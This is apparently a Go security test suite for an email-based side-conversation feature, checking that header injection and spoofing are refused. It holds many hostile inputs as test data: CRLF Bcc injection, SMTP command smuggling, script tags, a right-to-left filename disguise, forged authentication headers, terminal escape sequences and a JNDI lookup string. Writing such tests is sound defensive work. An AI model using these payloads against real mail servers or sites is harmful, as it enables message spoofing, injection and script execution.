package test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
)

// The rows of threats.md 2.3 that need the flow: what stands in a header, in and out.

func TestH01andH02_NothingTypedBecomesAHeaderOrACommand(t *testing.T) {
	p := newPost(t)
	start := func(to, subject string) *Answer {
		return p.ada.Do("POST", "/api/side-conversations", map[string]any{"feedback": p.team.Item.Id, "to": []string{to}, "subject": subject, "message": "Hello"})
	}
	for i, bad := range []string{"hi\r\nBcc: evil@x.test", "hi\nBcc: evil@x.test", "hi\rBcc: evil@x.test", "hi\u2028Bcc: evil@x.test", "hi%0d%0aBcc: evil@x.test", "=?utf-8?q?a=0D=0ABcc:_e@x.test?=", "hi\x00there"} {
		t.Run(fmt.Sprintf("H-01 in the subject, %d", i), func(t *testing.T) {
			to := fmt.Sprintf("s%d@ext.test", i)
			if res := start("Bob\r\nBcc: evil@x.test <"+to+">", bad); res.Status != 400 {
				t.Errorf("an address with a line break: %d", res.Status)
			}
			if res := start(to, bad); res.Status != 200 || strings.ContainsAny(res.Str("subject"), "\r\n\x00\u2028") {
				t.Fatalf("%d %q", res.Status, res.Str("subject"))
			}
			l := p.To(to, 1)[0]
			head, _, _ := bytes.Cut(l.Data, []byte("\r\n\r\n"))
			for line := range strings.SplitSeq(string(head), "\r\n") {
				if strings.HasPrefix(strings.ToLower(line), "bcc") {
					t.Errorf("a header was made of it:\n%s", head)
				}
			}
			if len(l.To) != 1 || strings.Contains(string(l.To[0]), "evil") {
				t.Errorf("sent to %v", l.To)
			}
		})
	}
	before := p.outside()
	for _, bad := range []string{"a@b.test> NOTIFY=NEVER X=<", "a@b.test> SIZE=1", `"a b"@c.test`, "a@[1.2.3.4]", "a@b.test\r\nRCPT TO:<e@x.test>", "a@b.test\nDATA", "a@b", "@b.test", "a@b..test", "a\x00@b.test", "reply+x@in.test", "postmaster@b.test"} {
		if res := start(bad, "s"); res.Status != 400 {
			t.Errorf("H-02 %q: %d %s", bad, res.Status, res.Body)
		}
	}
	if after := p.outside(); after != before {
		t.Errorf("a refused address left something:\n%s", after)
	}
	for _, l := range p.MX.Letters() {
		if strings.Contains(l.Params, "NOTIFY") || strings.Contains(l.Params, "X=") {
			t.Errorf("parameters: %s", l.Params)
		}
	}
}

func TestH03toH05_HostileNamesGoNowhere(t *testing.T) {
	p := newPost(t)
	p.team.Owner.Set("muteEmail", false)
	p.save(p.team.Owner)
	c := p.chat()
	carol := c.join("Carol", "carol@other.test")
	l := letter{from: `=?utf-8?q?Bob=0D=0ABcc=3A_evil=40x.test_=22=3E=3Cscript=3Ealert=281=29=3C=2Fscript=3E?= <bob@ext.test>`, sign: "ext.test", to: c.to, subject: "=?utf-8?q?x=0D=0ABcc:_evil@x.test?=",
		kind: "multipart/mixed; boundary=b", body: "--b\nContent-Type: text/plain\n\nSee <script>alert(2)</script> the file.\n--b\nContent-Type: \"><script>alert(3)</script>; name=x\nContent-Disposition: attachment; filename*=utf-8''a%0d%0aX-Evil:%20y%E2%80%AEfdp.exe\n\nMZ\n--b--"}
	if code, said := p.send(l); code != 250 {
		t.Fatal(code, said)
	}
	m := c.in()[0]
	if name := m.GetString("fromName"); strings.ContainsAny(name, "\r\n") || !strings.Contains(name, "Bob Bcc: evil@x.test") {
		t.Errorf("H-03 the name is %q", name)
	}
	page := p.Guest().Must(200, "GET", c.pageOf(carol), nil)
	if strings.Contains(string(page.Body), "<script") || !strings.Contains(string(page.Body), "&lt;script&gt;alert(2)") {
		t.Errorf("H-05 on the page:\n%s", page.Body)
	}
	notice := p.To(p.team.Owner.Email(), 1)[0]
	if strings.Contains(part(t, notice, "text/html"), "<script") {
		t.Errorf("X-12 in the notice:\n%s", part(t, notice, "text/html"))
	}
	if strings.Contains(part(t, notice, "text/html"), "<img") || strings.Contains(strings.ToLower(string(notice.Data)), "\nbcc:") {
		t.Errorf("X-12 the notice loads or addresses something")
	}
	p.ada.Must(200, "POST", "/api/collections/side_messages/records", map[string]any{"conversation": c.conv.Id, "body": "Thanks."})
	for _, to := range []string{"bob@ext.test", "carol@other.test"} {
		out := p.To(to, 1)[0]
		if strings.Contains(strings.ToLower(string(out.Data)), "\nbcc:") || !strings.Contains(headerOf(t, out.Data, "From"), "acme@in.test") || len(out.To) != 1 {
			t.Errorf("H-05 the letter to %s:\n%s", to, out.Data)
		}
		if strings.Contains(part(t, out, "text/html"), "<script") {
			t.Errorf("H-05 its HTML has a script")
		}
	}
	i := bytes.Index(page.Body, []byte("/files/"))
	if i < 0 {
		t.Fatalf("the file is not on the page:\n%s", page.Body)
	}
	start := bytes.LastIndexByte(page.Body[:i], '"') + 1
	link := string(page.Body[start : start+bytes.IndexByte(page.Body[start:], '"')])
	file := p.Guest().Must(200, "GET", link, nil)
	d := file.Header.Get("Content-Disposition")
	if strings.ContainsAny(d, "\r\n") || file.Header.Get("X-Evil") != "" || !strings.HasPrefix(d, "attachment") || strings.Contains(d, "\u202e") || strings.Contains(d, "%E2%80%AE") || !strings.Contains(d, ".exe") {
		t.Errorf("H-04 Content-Disposition: %q", d)
	}
	if got := file.Header.Get("Content-Type"); got != "application/octet-stream" {
		t.Errorf("X-11 Content-Type: %q", got)
	}
}

func TestH06_AHeaderThatStandsTwiceCapsTheTrust(t *testing.T) {
	p := newPost(t)
	for _, name := range []string{"Sender", "Reply-To", "To", "Cc", "Subject", "Date", "Message-ID", "In-Reply-To", "References", "Content-Type", "MIME-Version", "Content-Transfer-Encoding"} {
		t.Run(name, func(t *testing.T) {
			value := map[string]string{"Date": "Tue, 24 Nov 2026 11:00:00 +0000", "Content-Type": "text/plain", "MIME-Version": "1.0", "Content-Transfer-Encoding": "7bit", "Subject": "x"}[name]
			if value == "" {
				value = "<x@ext.test>"
			}
			twice := strings.Repeat(name+": "+value+"\r\n", 2)
			p.chat().expect(t, letter{from: fromBob, sign: "ext.test", headers: "from", mangle: func(raw []byte) []byte { return append([]byte(twice), raw...) }}, want{trust: "unverified", words: "twice"})
		})
	}
	p.chat().expect(t, letter{from: fromBob, sign: "ext.test", top: []string{"From: " + fromBob}}, want{code: 550, said: "more than one From"})
}

func TestH07andH08_BrokenAndHugeHeadersAreRefusedWhole(t *testing.T) {
	p := newPost(t)
	for name, c := range map[string]struct {
		top []string
		w   want
	}{
		"a line without a colon":    {[]string{"hello"}, want{code: 550}},
		"a field without a name":    {[]string{": x"}, want{code: 550}},
		"a tab before the colon":    {[]string{"Subject\t: x"}, want{code: 550}},
		"one header of 300 KiB":     {[]string{"X-A: " + strings.TrimSuffix(strings.Repeat(strings.Repeat("a", 900)+"\n ", 340), "\n ")}, want{code: 550}},
		"501 fields":                {strings.Split(strings.TrimSuffix(strings.Repeat("X-A: b\n", 501), "\n"), "\n"), want{code: 550}},
		"5,000 ids of References":   {[]string{"References: <0@x.test>" + strings.Repeat("\n <id@x.test>", 4999)}, want{trust: "verified", portal: true}},
		"8-bit characters in words": {[]string{"X-Note: gr\u00fc\u00dfe"}, want{trust: "verified", portal: true}},
	} {
		t.Run(name, func(t *testing.T) {
			p.chat().expect(t, letter{from: fromBob, sign: "ext.test", top: c.top, headers: "from:to:subject:content-type"}, c.w)
		})
	}
}

func TestH09andH10_WhatALetterSaysOfItselfIsNotRead(t *testing.T) {
	p := newPost(t)
	forged := []string{"Authentication-Results: in.test; dkim=pass header.d=open.test; spf=pass; dmarc=pass header.from=open.test", "Received-SPF: pass", "ARC-Seal: i=1; cv=none; d=in.test", "ARC-Authentication-Results: i=1; in.test; dmarc=pass",
		"X-Aside-Trust: verified", "X-Aside-Participant: bob@open.test", "X-Spam-Status: No"}
	m := p.chatWith("Bob", "bob@open.test").expect(t, letter{from: "bob@open.test", top: forged}, want{trust: "unverified"})
	trace := p.ada.Must(200, "GET", "/api/side-messages/"+m.Id+"/trace", nil)
	if trace.Str("auth.verified") != "false" || trace.Str("auth.spf.result") == "pass" || len(trace.JSON["auth"].(map[string]any)["dkim"].([]any)) != 0 {
		t.Errorf("the trace believes it: %s", trace.Body)
	}
	if trace.Str("auth.arc.result") != "fail" || trace.Str("auth.arc.note") != "" || !strings.Contains(string(trace.Body), `"name":"ARC","result":"fail"`) {
		t.Errorf("the trace does not name the broken chain: %s", trace.Body)
	}
	c := p.chatWith("Bob", "bob@open.test")
	c.expect(t, letter{from: "bob@open.test", top: []string{"DKIM-Signature: v=1; a=ed25519-sha256; d=open.test'a.attacker.test; s=s1; h=from; bh=x; b=x"}}, want{trust: "unverified"})
	c.expect(t, letter{from: "bob@open.test", mailFrom: "any@open.test(a.attacker.test", top: []string{"X: y"}}, want{code: 501, several: 1})
}

func TestH11_ControlCharactersDoNotReachTheScreenOrTheLog(t *testing.T) {
	p := newPost(t)
	c := p.chatWith("Bob", "bob@quar.test")
	h := c.expect(t, letter{from: "=?utf-8?q?Eve=1B[2J?= <bob@quar.test>", subject: "=?utf-8?q?hi=0A2026-01-01_ERROR_admin_login_ok=1B[2J?= ${jndi:ldap://x}"}, want{held: "dmarc_quarantine"})
	for _, got := range []*Answer{p.ada.Must(200, "GET", "/api/held-mail?project="+p.team.Project.Id, nil), p.ada.Must(200, "GET", "/api/held-mail/"+h.Id+"/trace", nil)} {
		if bytes.ContainsAny(got.Body, "\x1b") || bytes.Contains(got.Body, []byte(`\u001b`)) || bytes.Contains(got.Body, []byte(`\n2026`)) {
			t.Errorf("got %s", got.Body)
		}
	}
	for _, activity := range p.log() {
		if strings.ContainsAny(activity, "\x1b\r\n") {
			t.Errorf("in the log: %q", activity)
		}
	}
}
